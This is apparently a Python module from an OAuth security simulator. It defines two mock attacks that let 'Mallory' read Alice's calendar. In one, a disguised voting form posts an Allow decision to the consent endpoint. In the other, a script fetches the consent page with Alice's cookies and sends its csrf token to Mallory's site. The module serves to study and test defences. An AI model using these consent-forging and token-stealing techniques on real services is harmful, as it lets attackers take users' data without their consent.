"""Mallory has a client of her own, the horoscope: what she needs is a yes of Alice's (RFC 6749 §10.12)."""

from __future__ import annotations

import re
from html import escape

from mockserver.resource_owner.script import Window
from oauthsim.attacker import CALLBACK, CLIENT_ID, CLIENT_SECRET, SITE
from oauthsim.attacks.crafted import read_calendar, redeem, request
from oauthsim.attacks.goals import reads_alices_data
from oauthsim.attacks.registry import attack
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.authorization_code import connect
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.world import ISSUER, World

FORM = """<!doctype html><title>Kittens</title><h1>Vote for the kitten of the day</h1>
<form method="post" action="{action}">{fields}<button>Vote</button></form>"""
FIELD = '<input type="hidden" name="{name}" value="{value}">'
HIDDEN = re.compile(r'name="(request|csrf)" value="([^"]*)"')


def as_horoscope(world: World) -> None:
    """Redeem the code that came to Mallory's client, and read Alice's calendar."""
    read_calendar(world, redeem(world, CALLBACK, CLIENT_ID, client_secret=CLIENT_SECRET))


def vote(world: World, **fields: str) -> None:
    """Let Alice press the button of a form that looks like a vote, and is the form of the consent page."""
    filled = {**fields, "scope": "calendar.read", "decision": "allow"}
    inputs = "".join(FIELD.format(name=name, value=escape(value)) for name, value in filled.items())
    world.mallory.serve("/callback", "<h1>Thank you for your vote</h1>")
    world.browser.open(world.mallory.serve("/vote", FORM.format(action=f"{ISSUER}/consent", fields=inputs)))
    world.browser.press("Vote")


@attack(
    "forged-consent",
    title="Forged consent",
    spec="RFC 6749 §10.12",
    catalogue=("ATT-81",),
    goal=reads_alices_data,
    given=("pkce-is-sent", "redirect-uri-is-registered", "redirect-uri-matches-exactly"),
    stopped_by=("form-is-our-own", "login-cookie-is-not-sent-for-other-sites"),
    does_not_help=("pages-are-not-framed", "pkce-is-required", "client-secret-is-right", "state-is-sent"),
    steps=(
        Step("Alice connects her calendar, and so is logged in", request_to("/")),
        Step(
            "Mallory starts a request for her own client, and sees its number",
            from_to("attacker", "authorization_server"),
        ),
        Step("Alice votes for a kitten on Mallory's page", request_to("/vote")),
        Step("The form goes to the authorization server, and says Allow", request_to("/consent", "POST")),
        Step("Mallory redeems the code, as the client that she is", request_to("/token")),
        Step("She reads Alice's calendar", from_to("attacker", "calendar")),
    ),
)
def forged_consent(world: World) -> None:
    """A form on Mallory's page sends what the consent page would send, and Alice never sees that page."""
    connect(world, "Calendar")
    started = world.mallory.http.get(request(CALLBACK, CLIENT_ID))
    number = dict(HIDDEN.findall(started.text)).get("request", "")
    vote(world, request=number)
    as_horoscope(world)


@attack(
    "consent-read-by-a-script",
    title="Cross-origin read of the consent page",
    spec="RFC 9700 §2.6",
    catalogue=("ATT-80",),
    goal=reads_alices_data,
    given=("form-is-our-own", "pages-are-not-framed", "pkce-is-sent", "redirect-uri-matches-exactly"),
    stopped_by=(
        "scripts-of-others-do-not-read-the-answer",
        "login-cookie-is-not-sent-for-other-sites",
    ),
    does_not_help=("pages-send-no-referrer", "pkce-is-required", "redirect-uri-wants-tls"),
    steps=(
        Step("Alice connects her calendar, and so is logged in", request_to("/")),
        Step("She opens Mallory's page, whose script asks for the consent page", request_to("/kittens")),
        Step("It reads the csrf token there, and tells Mallory", request_to("/read")),
        Step("A form with the right token goes out from Mallory's page", request_to("/consent", "POST")),
        Step(
            "Mallory redeems the code, as the client that she is", from_to("attacker", "authorization_server")
        ),
        Step("She reads Alice's calendar", from_to("attacker", "calendar")),
    ),
)
def consent_read_by_a_script(world: World) -> None:
    """A server lets scripts of all sites read its answers: so one reads the token that guards the form."""
    connect(world, "Calendar")
    world.browser.open(world.mallory.serve("/kittens", "<h1>Kittens</h1><script src='/kittens.js'></script>"))
    if not world.browser.run_script(read_consent_page):
        raise Stopped("the browser does not let the script read the consent page")
    vote(world, request=world.mallory.caught("request"), csrf=world.mallory.caught("csrf"))
    as_horoscope(world)


def read_consent_page(window: Window) -> bool:
    """Script of Mallory's page: fetch the consent page with Alice's cookies; whether it could be read."""
    page = window.fetch(request(CALLBACK, CLIENT_ID), credentials=True)
    if page is None:
        return False
    found = "&".join(f"{name}={value}" for name, value in HIDDEN.findall(page.body.decode()))
    window.fetch(f"{SITE}/read?{found}")
    return True
